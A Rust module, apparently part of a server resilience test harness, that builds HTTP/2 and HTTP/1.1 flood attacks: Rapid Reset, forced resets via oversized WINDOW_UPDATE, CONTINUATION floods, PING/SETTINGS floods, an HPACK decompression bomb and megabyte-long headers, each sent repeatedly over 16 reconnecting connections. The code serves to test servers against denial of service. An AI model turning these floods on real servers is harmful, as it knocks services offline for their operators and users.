//! Floods: the same over and over, on a few connections, at a pace.

use std::io;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::task::spawn_local;
use tokio::time::{MissedTickBehavior, interval, sleep};

use crate::connect;
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, stream,
};
use crate::server::Server;

pub(crate) const CONNECTIONS: usize = 16;

/// How often each connection, or each attacker, sends.
pub(crate) const BEAT: Duration = Duration::from_millis(25);

/// How long an attacker takes to open a connection again.
const PAUSE: Duration = Duration::from_millis(50);

/// A flood.
pub(crate) struct Flood {
    over: Over,
    /// Rounds in a beat.
    rounds: u32,
    /// A round is sent in so many beats only.
    beats: u32,
    round: Box<dyn Fn(u32) -> Vec<u8>>,
}

/// What it is spoken over.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Over {
    Http2,
    Http1,
}

impl Flood {
    fn http2(rounds: u32, round: impl Fn(u32) -> Vec<u8> + 'static) -> Self {
        Self { over: Over::Http2, rounds, beats: 1, round: Box::new(round) }
    }

    /// Begins it.
    pub(crate) fn begin(self, server: &Rc<Server>) {
        let flood = Rc::new(self);
        for number in 0..CONNECTIONS {
            let (flood, server) = (Rc::clone(&flood), Rc::clone(server));
            spawn_local(async move {
                loop {
                    // What ends it is what is counted.
                    let _ended = flood.connection(&server, number).await;
                    sleep(PAUSE).await;
                }
            });
        }
    }

    /// Until the server ends it.
    async fn connection(&self, server: &Server, number: usize) -> io::Result<()> {
        if self.over == Over::Http2 {
            let stream = connect::tls(server, number).await?;
            server.count_opened();
            self.talk(stream, PREFACE).await;
        } else {
            let stream = connect::plain(server.plain, number, None).await?;
            server.count_opened();
            self.talk(stream, b"").await;
        }
        server.count_ended();
        Ok(())
    }

    async fn talk(&self, stream: impl AsyncRead + AsyncWrite, first: &[u8]) {
        let (mut reader, mut writer) = tokio::io::split(stream);
        let reading = async {
            let mut room = vec![0; 65_536];
            while matches!(reader.read(&mut room).await, Ok(1..)) {}
        };
        let writing = async {
            writer.write_all(first).await?;
            let mut beat = interval(BEAT * self.beats);
            beat.set_missed_tick_behavior(MissedTickBehavior::Delay);
            for batch in 0.. {
                beat.tick().await;
                let rounds = batch * self.rounds..(batch + 1) * self.rounds;
                let bytes = rounds.flat_map(&self.round).collect::<Vec<_>>();
                writer.write_all(&bytes).await?;
                writer.flush().await?;
            }
            Ok::<(), io::Error>(())
        };
        tokio::select! {
            () = reading => {}
            _broken = writing => {}
        }
    }
}

/// Streams that are opened and reset at once.
pub(crate) fn rapid_reset() -> Flood {
    Flood::http2(25, |round| {
        let open = frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &block("GET"));
        [open, frame(RST_STREAM, 0, stream(round), &[0, 0, 0, 8])].concat()
    })
}

/// Streams that the server is made to reset.
pub(crate) fn made_you_reset() -> Flood {
    Flood::http2(25, |round| {
        let open = frame(HEADERS, END_HEADERS, stream(round), &block("POST"));
        let too_much = [0x7f, 0xff, 0xff, 0xff];
        [open, frame(WINDOW_UPDATE, 0, stream(round), &too_much)].concat()
    })
}

/// A head that never ends.
pub(crate) fn continuation() -> Flood {
    Flood::http2(100, |round| match round {
        0 => frame(HEADERS, END_STREAM, 1, &block("GET")),
        _ => frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']),
    })
}

/// What must be answered, and is about nothing.
pub(crate) fn ping_and_settings() -> Flood {
    Flood::http2(50, |_| [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[])].concat())
}

/// Heads of 16 KiB that unfold into forty megabytes: a field of 4,000 bytes in the table, and its number over and over.
pub(crate) fn hpack_bomb() -> Flood {
    let mut bomb = block("GET");
    bomb.extend([0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
    bomb.extend([b'b'; 4000]);
    bomb.extend([0xbe; 10_000]);
    Flood::http2(1, move |round| frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &bomb))
}

/// Requests over HTTP/1.1, one in so many beats.
pub(crate) fn requests(text: Vec<u8>, beats: u32) -> Flood {
    Flood { over: Over::Http1, rounds: 1, beats, round: Box::new(move |_| text.clone()) }
}

/// The head of a request that goes on for a megabyte.
pub(crate) fn large_head(mut head: Vec<u8>) -> Vec<u8> {
    head.extend([b"x: ".as_slice(), &[b'y'; 1000], b"\r\n"].concat().repeat(1000));
    head
}
